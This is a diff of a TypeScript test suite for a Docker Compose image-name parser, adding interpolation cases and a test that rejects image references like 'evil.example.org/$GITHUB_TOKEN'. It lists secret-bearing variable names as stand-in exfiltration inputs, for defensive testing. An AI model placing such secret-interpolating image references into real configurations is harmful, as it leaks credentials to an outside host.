@@ -105,12 +105,34 @@ suite('the images in a file', () => {
     ]);
   });
 
-  test('do not contain variables of the program, nor those of the environment outside of a compose file', async () => {
-    const variables = { SECRET: 'x', DOCKERPROXY_PASSWORD: 'y' };
+  for (const [written, name] of [
+    [`a:\${A:-\${B}}`, 'a:1'],
+    [`a:\${NONE:-\${B:-3}}`, 'a:2'],
+    [`a:\${NONE:-\${NOT:-\${B}}}`, 'a:2'],
+    [`a:\${A:-\${NONE}}`, 'a:1'],
+    [`a:\${NONE:-\${NOT:-3}}`, 'a:3'],
+    [`a:1\${A:+-\${B}}\${NONE:+-\${B}}`, 'a:1-2'],
+    [`a\${EMPTY--x}\${NONE--y}:\${EMPTY:-4}`, 'a-y:4'],
+    [`a:\${OWN:-5}`, 'a:5'],
+    [`a:\${constructor:-6}`, 'a:6'],
+    [`a:\${SECRETS_OPERATOR_TAG}`, 'a:7'],
+  ] as const)
+    test(`have the name that Docker Compose computes from ${written}`, async () => {
+      const variables = { A: '1', B: '2', EMPTY: '', SECRETS_OPERATOR_TAG: '7' };
+      const text = `services:\n  a:\n    image: ${written}\n    environment: { OWN: 9 }\n`;
+      assert.deepEqual(await imagesIn(text, 'file', variables), [{ name, platforms: undefined }]);
+    });
+
+  test('do not contain secrets by the names of their variables, nor the environment outside of a compose file', async () => {
+    const secrets = [
+      ...['DOCKERPROXY_PASSWORD', 'GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'MYSQL_PWD', 'sshpass'],
+      ...['SECRET_KEY_BASE', 'OPENAI_APIKEY', 'GITLAB_PAT'],
+    ];
+    const variables = { A: 'x', ...Object.fromEntries(secrets.map((name) => [name, 'x'])) };
     for (const text of [
-      'services: { a: { image: evil.example.org/$DOCKERPROXY_PASSWORD } }',
-      'containers: [{ image: evil.example.org/$SECRET }]',
-      'evil.example.org/$SECRET',
+      ...secrets.map((name) => `services: { a: { image: evil.example.org/$${name} } }`),
+      'containers: [{ image: evil.example.org/$A }]',
+      'evil.example.org/$A',
     ])
       await assert.rejects(
         imagesIn(text, 'file', variables),
